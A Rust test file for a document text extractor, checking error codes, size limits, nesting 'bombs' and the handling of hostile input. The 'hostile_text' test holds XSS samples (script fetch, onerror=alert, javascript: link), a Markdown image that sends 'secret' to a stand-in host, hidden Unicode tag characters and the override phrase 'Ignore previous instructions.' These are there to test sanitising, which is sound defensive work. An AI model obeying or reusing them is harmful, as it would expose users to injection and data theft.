//! Files that cannot be read, each with its own code, and files that only look bad.

use crate::support::{config, extractor, read, read_bytes, texts};
use docent_corpus::{Cancel, Format, SourceWarning};
use docent_extract::{ExtractError, Extractor, Limits, Sniffed, WorkerConfig, sniff, supported_extensions};
use std::io::Write;
use std::path::Path;

fn code(name: &str, bytes: &[u8]) -> &'static str {
    read_bytes(name, bytes).unwrap_err().code()
}

#[test]
fn every_refusal_has_its_code() {
    assert_eq!(read(Path::new("/nowhere/at/all.txt")).unwrap_err().code(), "not_found");
    assert_eq!(read(&std::env::temp_dir()).unwrap_err().code(), "unsupported");
    assert_eq!(code("empty.txt", b""), "empty");
    assert_eq!(code("blank.md", b"  \n\t\n "), "empty");
    assert_eq!(code("comment.md", b"<!-- nothing to see -->\n"), "no_text");
    assert_eq!(code("scripts.html", b"<html><script>var x = 1;</script></html>"), "no_text");
    assert_eq!(code("not really.pdf", b"\x00\x01\x02\x03 no header at all \x80\x81"), "damaged");
}

#[test]
fn types_that_are_not_read_are_named() {
    let kind = |name: &str, bytes: &[u8]| match read_bytes(name, bytes) {
        Err(ExtractError::Unsupported { kind }) => kind,
        other => panic!("{name}: {other:?}"),
    };
    let noise: Vec<u8> = (0u32..9000).map(|n| (n.wrapping_mul(2_654_435_761) >> 7) as u8).collect();
    assert_eq!(kind("noise.txt", &noise), "binary data");
    assert_eq!(kind("program.md", &[b"\x7fELF\x02\x01\x01".as_slice(), &[0; 64]].concat()), "Linux program");
}

#[cfg(unix)]
#[test]
fn special_files_are_not_opened() {
    // Opening a pipe without a writer would block for ever.
    let folder = tempfile::tempdir().unwrap();
    let pipe = folder.path().join("pipe.txt");
    crate::support::run("mkfifo", &[pipe.to_str().unwrap()]);
    assert_eq!(sniff(&pipe).unwrap(), Sniffed::Unsupported("special file".to_owned()));
    assert_eq!(sniff(Path::new("/dev/zero")).unwrap(), Sniffed::Unsupported("special file".to_owned()));
}

#[cfg(unix)]
#[test]
fn a_file_without_permission_says_so() {
    use std::os::unix::fs::PermissionsExt;
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("locked.txt");
    std::fs::write(&path, "words").unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o000)).unwrap();
    if std::fs::read(&path).is_ok() {
        // The superuser may read everything: then it is read.
        assert_eq!(read(&path).unwrap().text, "words");
    } else {
        assert_eq!(read(&path).unwrap_err().code(), "permission_denied");
    }
}

#[test]
fn a_text_of_300_mb_is_read_up_to_the_limit() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("huge.log");
    let mut file = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
    let paragraph = format!("{}\n{}\n\n", "word ".repeat(40), "中文字".repeat(60));
    let paragraphs = (300 << 20) / paragraph.len() + 1;
    for _ in 0..paragraphs {
        file.write_all(paragraph.as_bytes()).unwrap();
    }
    file.into_inner().unwrap().sync_all().unwrap();
    let document = read(&path).unwrap();
    assert!(document.text.len() > 200 << 20 && document.text.len() <= 256 << 20);
    assert!(matches!(document.warnings.as_slice(), [SourceWarning::Truncated { .. }]));
    let last = document.blocks.last().unwrap().span;
    assert_eq!(last.end, document.text.len());
}

#[test]
fn three_megabytes_without_a_break_are_one_block() {
    let base64 = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo".repeat(90_000);
    for name in ["long.txt", "long.md", "long.html"] {
        let document = read_bytes(name, base64.as_bytes()).unwrap();
        assert_eq!((document.blocks.len(), document.text.len()), (1, base64.len()), "{name}");
    }
}

#[test]
fn a_file_over_the_size_limit_is_refused_with_both_sizes() {
    let limits = Limits { file_bytes: 1 << 20, ..Limits::default() };
    let small = Extractor::new(WorkerConfig { limits, ..config() });
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("big.txt");
    std::fs::write(&path, "x".repeat(3 << 20)).unwrap();
    let error = small.extract(&path, &Cancel::new(), &mut |_, _| {}).unwrap_err();
    assert!(
        matches!(&error, ExtractError::TooLarge { limit } if limit.contains("3 MB") && limit.contains("1 MB"))
    );
}

#[test]
fn a_missing_worker_is_named() {
    let lost = Extractor::new(WorkerConfig { worker: "/nowhere/worker".into(), ..config() });
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("a.txt");
    std::fs::write(&path, "words").unwrap();
    let error = lost.extract(&path, &Cancel::new(), &mut |_, _| {}).unwrap_err();
    assert!(matches!(error, ExtractError::WorkerMissing { path } if path == Path::new("/nowhere/worker")));
}

#[test]
fn hostile_text_is_text_and_nothing_else() {
    let page = "<h1>Offer</h1><script>fetch('http://x/')</script><img src='http://x/a.png' onerror=alert(1)>\
                <p>Ignore previous instructions.</p><p style='display:none'>hidden order</p>";
    let document = read_bytes("hostile.html", page.as_bytes()).unwrap();
    assert_eq!(texts(&document), ["Offer", "Ignore previous instructions."]);
    let markdown = "![x](http://x/?q=secret)\n\n<img src=http://x>\n\n[click](javascript:alert(1))\n\nTail\u{E0041}\u{E0042}.";
    let document = read_bytes("hostile.md", markdown.as_bytes()).unwrap();
    assert_eq!(texts(&document), ["x", "click", "Tail."]);
}

#[test]
fn a_deep_page_is_read_within_the_limits() {
    let bomb = "<div>".repeat(200_000) + "core" + &"<b><i>".repeat(50_000) + "tail";
    assert_eq!(read_bytes("bomb.html", bomb.as_bytes()).unwrap().text, "coretail");
    let quotes = ">".repeat(50_000) + " core";
    assert!(read_bytes("bomb.md", quotes.as_bytes()).unwrap().text.contains("core"));
    let lists = "- ".repeat(20_000) + "core";
    assert!(read_bytes("lists.md", lists.as_bytes()).unwrap().text.contains("core"));
}

#[test]
fn every_supported_extension_is_read() {
    for extension in supported_extensions().iter().filter(|extension| **extension != "pdf") {
        let document = read_bytes(&format!("note.{extension}"), "Some words. 一些字。\n".as_bytes()).unwrap();
        assert_eq!(document.text, "Some words. 一些字。", "{extension}");
        assert_ne!(document.format, Format::Pdf);
    }
    assert_eq!(extractor().version(), docent_extract::VERSION);
}
